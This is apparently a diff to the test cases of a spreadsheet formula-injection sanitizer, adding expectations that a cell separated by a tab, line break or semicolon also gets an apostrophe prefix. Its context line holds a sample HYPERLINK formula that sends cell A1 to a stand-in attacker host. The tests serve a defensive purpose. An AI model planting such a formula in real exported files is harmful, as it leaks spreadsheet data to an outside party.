@@ -32,8 +32,11 @@ HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open ticket")'
         ("+44 20 7946 0000", "'+44 20 7946 0000"),
         ("-2+3", "'-2+3"),
         ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
-        ("\t=1", "'\t=1"),
-        ("\r=1", "'\r=1"),
+        # A tab or a line break starts a cell or a row of its own where the quotes do not hold:
+        # what follows it gets an apostrophe too (issue 33, item 5).
+        ("\t=1", "'\t'=1"),
+        ("\r=1", "'\r'=1"),
+        ("a;=1", "a;'=1"),
         ("T-40912", "T-40912"),
         ("", ""),
         ("a=b", "a=b"),
